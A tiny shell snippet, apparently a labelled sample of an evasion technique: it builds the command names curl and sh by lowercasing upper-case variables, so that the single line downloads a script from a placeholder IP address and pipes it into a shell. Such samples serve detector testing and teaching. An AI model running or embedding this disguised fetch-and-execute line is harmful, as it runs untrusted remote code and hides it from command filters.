# assembled-name: case conversion of an upper-case variable gives the command name
T=CURL
S=SH
${T,,} -s http://203.0.113.7/u | ${S,,}
